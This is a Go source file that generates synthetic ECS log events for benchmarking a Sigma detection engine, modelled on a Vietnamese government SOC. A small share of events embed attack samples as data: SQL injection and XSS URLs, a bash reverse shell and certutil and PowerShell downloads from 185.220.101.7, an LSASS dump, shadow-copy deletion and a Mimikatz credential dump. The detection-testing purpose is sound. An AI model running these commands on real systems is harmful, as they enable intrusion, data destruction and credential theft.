// Package corpus makes realistic ECS events for the Sigma engine's
// benchmarks and tests: the mix a national SOC sees (web access logs of the
// public portals, DNS, flows, Linux authentication, and the Windows hosts of
// agencies through Winlogbeat and Sysmon), mostly benign with a sprinkle of
// attacks, deterministic for a seed.
package corpus

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"time"
)

// Kind names the shapes of event the corpus makes.
var Kinds = []string{"web", "dns", "flow", "auth", "win-process", "win-security", "linux-process", "win-network", "win-file", "win-registry", "win-powershell"}

// weights: how many of each kind per 100 events.
var weights = []int{24, 14, 14, 8, 18, 5, 4, 4, 3, 3, 3}

// Events returns n events as JSON documents.
func Events(n int, seed uint64) [][]byte {
	r := rand.New(rand.NewPCG(seed, 0x5eed))
	t0 := time.Date(2026, 11, 22, 8, 0, 0, 0, time.UTC)
	out := make([][]byte, 0, n)
	for i := 0; i < n; i++ {
		ts := t0.Add(time.Duration(i) * 7 * time.Millisecond).Format("2006-01-02T15:04:05.000Z")
		k := pick(r)
		attack := r.IntN(100) == 0
		var doc string
		switch Kinds[k] {
		case "web":
			doc = web(r, ts, attack)
		case "dns":
			doc = dns(r, ts, attack)
		case "flow":
			doc = flow(r, ts)
		case "auth":
			doc = auth(r, ts)
		case "win-process":
			doc = winProcess(r, ts, attack)
		case "win-security":
			doc = winSecurity(r, ts)
		case "linux-process":
			doc = linuxProcess(r, ts, attack)
		case "win-network":
			doc = winNetwork(r, ts)
		case "win-file":
			doc = winFile(r, ts)
		case "win-registry":
			doc = winRegistry(r, ts)
		case "win-powershell":
			doc = winPowershell(r, ts, attack)
		}
		out = append(out, []byte(doc))
	}
	return out
}

func pick(r *rand.Rand) int {
	n := r.IntN(100)
	for i, w := range weights {
		if n < w {
			return i
		}
		n -= w
	}
	return 0
}

func one[T any](r *rand.Rand, xs []T) T { return xs[r.IntN(len(xs))] }

// q quotes a string as JSON.
func q(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, c := range s {
		switch c {
		case '"':
			b.WriteString(`\"`)
		case '\\':
			b.WriteString(`\\`)
		default:
			b.WriteRune(c)
		}
	}
	b.WriteByte('"')
	return b.String()
}

var portals = []string{"dichvucong.gov.vn", "dichvucong.hanoi.gov.vn", "dvc.hochiminhcity.gov.vn", "mof.gov.vn", "moh.gov.vn", "danang.gov.vn", "vanban.chinhphu.vn"}
var paths = []string{"/thu-tuc-hanh-chinh/tra-cuu-ho-so?ma=HS2026-%06d", "/", "/tin-tuc/chi-tiet/%d", "/static/js/app.%d.js", "/api/v1/ho-so/%d/trang-thai",
	"/tim-kiem?q=gi%%E1%%BA%%A5y+ph%%C3%%A9p+x%%C3%%A2y+d%%E1%%BB%%B1ng&p=%d", "/dang-nhap", "/images/banner-%d.png", "/van-ban/quyet-dinh-%d-qd-ubnd.pdf"}
var agents = []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Mobile Safari/537.36",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Zalo/24.10 (Android 13)"}
var attacksWeb = []string{"/tra-cuu?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "/index.php?page=../../../../etc/passwd",
	"/search?q=<script>alert(document.cookie)</script>", "/.env", "/wp-admin/setup-config.php", "/uploads/shell.php?cmd=id"}

func ip(r *rand.Rand, public bool) string {
	if public {
		return fmt.Sprintf("%d.%d.%d.%d", one(r, []int{113, 14, 27, 42, 171, 203, 118, 185}), r.IntN(256), r.IntN(256), 1+r.IntN(254))
	}
	return fmt.Sprintf("10.%d.%d.%d", r.IntN(40), r.IntN(256), 1+r.IntN(254))
}

func web(r *rand.Rand, ts string, attack bool) string {
	p := fmt.Sprintf(one(r, paths), r.IntN(999999))
	ua := one(r, agents)
	status := one(r, []int{200, 200, 200, 200, 304, 301, 404, 200})
	if attack {
		p = one(r, attacksWeb)
		ua = one(r, []string{"sqlmap/1.8.2#stable (https://sqlmap.org)", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", ua})
		status = one(r, []int{200, 403, 404, 500})
	}
	path, query, _ := strings.Cut(p, "?")
	host := one(r, portals)
	method := one(r, []string{"GET", "GET", "GET", "POST"})
	return fmt.Sprintf(`{"@timestamp":%q,"event":{"kind":"event","category":["web"],"type":["access"],"dataset":"nginx.access","module":"nginx","outcome":"success"},"host":{"name":"portal-01.%s"},"observer":{"name":"sensor-1"},"source":{"ip":%q,"port":%d},"destination":{"ip":"10.10.1.20","port":443},"url":{"original":%s,"domain":%q,"path":%s,"query":%s},"http":{"request":{"method":%q,"bytes":%d},"response":{"status_code":%d,"bytes":%d},"version":"1.1"},"user_agent":{"original":%s},"message":%s}`,
		ts, host, ip(r, true), 30000+r.IntN(30000), q(p), host, q(path), q(query), method, 300+r.IntN(800), status, 200+r.IntN(40000), q(ua),
		q(fmt.Sprintf("%s - - [22/Nov/2026:15:15:02 +0700] \"%s %s HTTP/1.1\" %d 1234 \"-\" \"%s\"", "1.2.3.4", method, p, status, ua)))
}

var domains = []string{"dichvucong.gov.vn", "www.google.com", "zalo.me", "chinhphu.vn", "vnexpress.net", "login.microsoftonline.com", "update.microsoft.com", "fbcdn.net", "hanoi.gov.vn", "thuvienphapluat.vn"}

func dns(r *rand.Rand, ts string, attack bool) string {
	d := one(r, domains)
	name := d
	if r.IntN(3) == 0 {
		name = one(r, []string{"www.", "api.", "static.", "mail."}) + d
	}
	qtype := one(r, []string{"A", "A", "AAAA", "A", "HTTPS"})
	if attack {
		name = fmt.Sprintf("%x%x.%x.t.example-tunnel.xyz", r.Uint64(), r.Uint64(), r.Uint32())
		qtype = "TXT"
	}
	return fmt.Sprintf(`{"@timestamp":%q,"event":{"kind":"event","category":["network"],"type":["protocol"],"dataset":"dns","module":"netmeta"},"source":{"ip":%q,"port":%d},"destination":{"ip":"10.20.0.53","port":53},"network":{"transport":"udp","protocol":"dns"},"dns":{"type":"answer","id":%d,"question":{"name":%q,"type":%q,"class":"IN","registered_domain":%q},"response_code":"NOERROR","answers":[{"name":%q,"type":"A","ttl":300,"data":%q}]}}`,
		ts, ip(r, false), 40000+r.IntN(20000), r.IntN(65535), name, qtype, d, name, ip(r, true))
}

func flow(r *rand.Rand, ts string) string {
	port := one(r, []int{443, 443, 80, 53, 25, 993, 3389, 445, 22, 8080, 1433})
	return fmt.Sprintf(`{"@timestamp":%q,"event":{"kind":"event","category":["network"],"type":["connection","end"],"action":"network_flow","dataset":"flow","module":"netmeta","duration":%d},"source":{"ip":%q,"port":%d,"bytes":%d,"packets":%d},"destination":{"ip":%q,"port":%d,"bytes":%d,"packets":%d},"network":{"transport":"tcp","type":"ipv4","bytes":%d,"packets":%d,"community_id":"1:LQU9qZlK+B5F3KDmev6m5PMibrg="}}`,
		ts, r.IntN(9e9), ip(r, r.IntN(2) == 0), 30000+r.IntN(30000), r.IntN(9000), r.IntN(40), ip(r, false), port, r.IntN(90000), r.IntN(90), r.IntN(99000), r.IntN(130))
}

func auth(r *rand.Rand, ts string) string {
	user := one(r, []string{"root", "admin", "nguyenvana", "tranthib", "deploy", "backup"})
	src := ip(r, r.IntN(3) == 0)
	outcome, msg := "failure", fmt.Sprintf("Failed password for %s from %s port %d ssh2", user, src, 40000+r.IntN(9999))
	if r.IntN(3) > 0 {
		outcome, msg = "success", fmt.Sprintf("Accepted publickey for %s from %s port %d ssh2: RSA SHA256:abc", user, src, 40000+r.IntN(9999))
	}
	return fmt.Sprintf(`{"@timestamp":%q,"event":{"kind":"event","category":["authentication"],"type":["start"],"dataset":"system.auth","module":"system","outcome":%q,"action":"ssh_login"},"host":{"name":"app-02.danang.gov.vn","os":{"type":"linux"}},"process":{"name":"sshd","pid":%d},"source":{"ip":%q,"port":40122},"user":{"name":%q},"message":%q,"related":{"ip":[%q],"user":[%q]}}`,
		ts, outcome, 1000+r.IntN(60000), src, user, msg, src, user)
}

type proc struct{ exe, cmd, parent, pcmd string }

var winProcs = []proc{
	{`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, `C:\Windows\System32\services.exe`, `C:\Windows\system32\services.exe`},
	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=vi --field-trial-handle=1234`, `C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe"`},
	{`C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, `C:\Windows\System32\cmd.exe`, `cmd.exe /c backup.bat`},
	{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "D:\VanBan\CongVan-2026-123.docx"`, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\Get-Inventory.ps1`, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs`},
	{`C:\Windows\System32\taskhostw.exe`, `taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}`, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p`},
	{`C:\Windows\System32\cmd.exe`, `C:\Windows\system32\cmd.exe /c "C:\Program Files\Backup\run.cmd"`, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`},
	{`C:\Windows\System32\msiexec.exe`, `C:\Windows\system32\msiexec.exe /V`, `C:\Windows\System32\services.exe`, `C:\Windows\system32\services.exe`},
	{`C:\Program Files\Zalo\Zalo.exe`, `"C:\Program Files\Zalo\Zalo.exe" --autostart`, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`},
	{`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k DcomLaunch -p`},
}
var winAttacks = []proc{
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `WINWORD.EXE`},
	{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://185.220.101.7/a.exe C:\Users\Public\a.exe`, `C:\Windows\System32\cmd.exe`, `cmd.exe /c certutil`},
	{`C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`, `C:\Windows\System32\cmd.exe`, `cmd.exe`},
	{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\lsass.dmp full`, `C:\Windows\System32\cmd.exe`, `cmd.exe`},
}

func winHead(ts, category, typ, code, channel, provider string, winlog ...string) string {
	extra := ""
	for _, w := range winlog {
		extra += "," + w
	}
	return fmt.Sprintf(`"@timestamp":%q,"event":{"kind":"event","category":[%q],"type":[%q],"code":%q,"module":"sysmon","provider":%q},"winlog":{"channel":%q,"event_id":%s,"provider_name":%q,"computer_name":"PC-%s.mof.local"`+extra+`},"host":{"name":"pc-17.mof.local","os":{"type":"windows","family":"windows","platform":"windows"}}`,
		ts, category, typ, code, provider, channel, code, provider, code)
}

const sysmon = "Microsoft-Windows-Sysmon/Operational"

func winProcess(r *rand.Rand, ts string, attack bool) string {
	p := one(r, winProcs)
	if attack {
		p = one(r, winAttacks)
	}
	name := p.exe[strings.LastIndexByte(p.exe, '\\')+1:]
	pname := p.parent[strings.LastIndexByte(p.parent, '\\')+1:]
	return fmt.Sprintf(`{%s,"process":{"executable":%s,"name":%q,"command_line":%s,"pid":%d,"working_directory":"C:\\Windows\\system32\\","pe":{"original_file_name":%q,"company":"Microsoft Corporation","product":"Microsoft Windows Operating System","description":"Windows"},"hash":{"sha256":"%064x"},"parent":{"executable":%s,"name":%q,"command_line":%s,"pid":%d}},"user":{"name":"nguyenvana","domain":"MOF"}}`,
		winHead(ts, "process", "start", "1", sysmon, "Microsoft-Windows-Sysmon"), q(p.exe), name, q(p.cmd), 1000+r.IntN(60000), name, r.Uint64(), q(p.parent), pname, q(p.pcmd), 1000+r.IntN(60000))
}

func winSecurity(r *rand.Rand, ts string) string {
	code := one(r, []string{"4624", "4624", "4625", "4672", "4634"})
	return fmt.Sprintf(`{"@timestamp":%q,"event":{"kind":"event","category":["authentication"],"type":["start"],"code":%q,"module":"security","provider":"Microsoft-Windows-Security-Auditing","outcome":"success"},"winlog":{"channel":"Security","event_id":%s,"provider_name":"Microsoft-Windows-Security-Auditing","event_data":{"TargetUserName":%q,"TargetDomainName":"MOF","LogonType":%q,"IpAddress":%q,"WorkstationName":"PC-17","AuthenticationPackageName":"Kerberos","LogonProcessName":"Kerberos"}},"host":{"name":"dc-01.mof.local","os":{"type":"windows","family":"windows"}},"source":{"ip":%q},"user":{"name":%q}}`,
		ts, code, code, one(r, []string{"nguyenvana", "tranthib", "svc_backup", "PC-17$"}), one(r, []string{"2", "3", "10", "3"}), ip(r, false), ip(r, false), "nguyenvana")
}

func linuxProcess(r *rand.Rand, ts string, attack bool) string {
	exe, cmd := one(r, []string{"/usr/bin/ls", "/usr/bin/python3", "/usr/sbin/cron", "/usr/bin/curl", "/usr/bin/systemctl"}), ""
	switch exe {
	case "/usr/bin/python3":
		cmd = "/usr/bin/python3 /opt/app/manage.py runjobs hourly"
	case "/usr/bin/curl":
		cmd = "curl -s https://dichvucong.gov.vn/healthz"
	default:
		cmd = exe + " --help"
	}
	if attack {
		exe, cmd = "/usr/bin/bash", "bash -i >& /dev/tcp/185.220.101.7/4444 0>&1"
	}
	return fmt.Sprintf(`{"@timestamp":%q,"event":{"kind":"event","category":["process"],"type":["start"],"module":"auditd","dataset":"auditd.log"},"host":{"name":"app-02.danang.gov.vn","os":{"type":"linux","family":"debian"}},"process":{"executable":%q,"name":%q,"command_line":%q,"args":[%q],"pid":%d,"working_directory":"/opt/app","parent":{"executable":"/usr/bin/bash","name":"bash","pid":%d}},"user":{"name":"www-data","id":"33"}}`,
		ts, exe, exe[strings.LastIndexByte(exe, '/')+1:], cmd, exe, 1000+r.IntN(60000), 1000+r.IntN(60000))
}

func winNetwork(r *rand.Rand, ts string) string {
	p := one(r, winProcs)
	return fmt.Sprintf(`{%s,"process":{"executable":%s,"name":"x.exe","pid":%d},"source":{"ip":%q,"port":%d},"destination":{"ip":%q,"port":%d,"domain":"login.microsoftonline.com"},"network":{"transport":"tcp","direction":"egress","type":"ipv4"},"user":{"name":"nguyenvana"}}`,
		winHead(ts, "network", "connection", "3", sysmon, "Microsoft-Windows-Sysmon"), q(p.exe), 1000+r.IntN(60000), ip(r, false), 49152+r.IntN(16000), ip(r, true), one(r, []int{443, 80, 53}))
}

func winFile(r *rand.Rand, ts string) string {
	f := one(r, []string{`C:\Users\nguyenvana\AppData\Local\Temp\~DF1234.tmp`, `C:\Windows\Prefetch\CHROME.EXE-1234.pf`, `D:\VanBan\BaoCao-Q4.xlsx`, `C:\ProgramData\Microsoft\Windows Defender\Scans\mpcache.bin`})
	return fmt.Sprintf(`{%s,"process":{"executable":"C:\\Windows\\explorer.exe","name":"explorer.exe","pid":%d},"file":{"path":%s,"name":"x","extension":"tmp"},"user":{"name":"nguyenvana"}}`,
		winHead(ts, "file", "creation", "11", sysmon, "Microsoft-Windows-Sysmon"), 1000+r.IntN(60000), q(f))
}

func winRegistry(r *rand.Rand, ts string) string {
	k := one(r, []string{`HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx`, `HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated`, `HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1`})
	return fmt.Sprintf(`{%s,"process":{"executable":"C:\\Windows\\explorer.exe","name":"explorer.exe","pid":%d},"registry":{"path":%s,"key":"x","value":"y","data":{"strings":["DWORD (0x00000001)"],"type":"SZ_DWORD"}}}`,
		winHead(ts, "registry", "change", "13", sysmon, "Microsoft-Windows-Sysmon", `"event_data":{"EventType":"SetValue"}`), 1000+r.IntN(60000), q(k))
}

func winPowershell(r *rand.Rand, ts string, attack bool) string {
	script := one(r, []string{"Get-ChildItem -Path C:\\Scripts -Filter *.log | Remove-Item", "Import-Module ActiveDirectory; Get-ADUser -Filter * | Export-Csv users.csv", "Get-Service | Where-Object {$_.Status -eq 'Running'}"})
	if attack {
		script = "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.7/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds"
	}
	return fmt.Sprintf(`{"@timestamp":%q,"event":{"kind":"event","category":["process"],"type":["info"],"code":"4104","module":"powershell","provider":"Microsoft-Windows-PowerShell"},"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_id":4104,"provider_name":"Microsoft-Windows-PowerShell","event_data":{"ScriptBlockText":%s,"ScriptBlockId":"a1b2c3","Path":""}},"powershell":{"file":{"script_block_text":%s}},"host":{"name":"pc-17.mof.local","os":{"type":"windows","family":"windows"}}}`,
		ts, q(script), q(script))
}
